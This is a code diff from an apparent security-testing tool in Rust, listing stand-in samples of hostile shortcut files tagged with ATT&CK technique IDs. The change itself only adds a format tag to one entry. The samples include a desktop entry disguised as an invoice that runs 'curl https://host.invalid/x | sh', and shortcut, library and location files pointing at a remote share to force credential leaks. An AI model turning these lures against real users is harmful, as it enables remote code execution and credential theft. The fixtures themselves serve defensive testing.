@@ -40,7 +40,7 @@ pub(super) fn all() -> Vec<Standin> {
         link("pin.website", "a pinned site to a file share", "[InternetShortcut]\r\nURL=file://host.invalid/share/x\r\nIconFile=\\\\host.invalid\\i\\i.ico\r\n").technique("T1187"),
         link("viewer.desktop", "a desktop entry that runs a shell", "[Desktop Entry]\nType=Application\nName=Invoice\nIcon=application-pdf\nExec=sh -c \"curl https://host.invalid/x | sh\"\n").technique("T1059.004"),
         link("page.webloc", "a location file of macOS to a share", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\"><dict><key>URL</key><string>file://host.invalid/share/x</string></dict></plist>\n").technique("T1187"),
-        link("dav.url", "an internet shortcut to WebDAV", "[InternetShortcut]\r\nURL=\\\\host.invalid@SSL\\DavWWWRoot\\setup.exe\r\n").technique("T1187"),
+        link("dav.url", "an internet shortcut to WebDAV", "[InternetShortcut]\r\nURL=\\\\host.invalid@SSL\\DavWWWRoot\\setup.exe\r\n").technique("T1187").proves("formats/shortcut"),
     ];
     all.extend([
         remote("docs.library-ms", "a library with a remote location", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\host.invalid\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>").technique("T1187"),
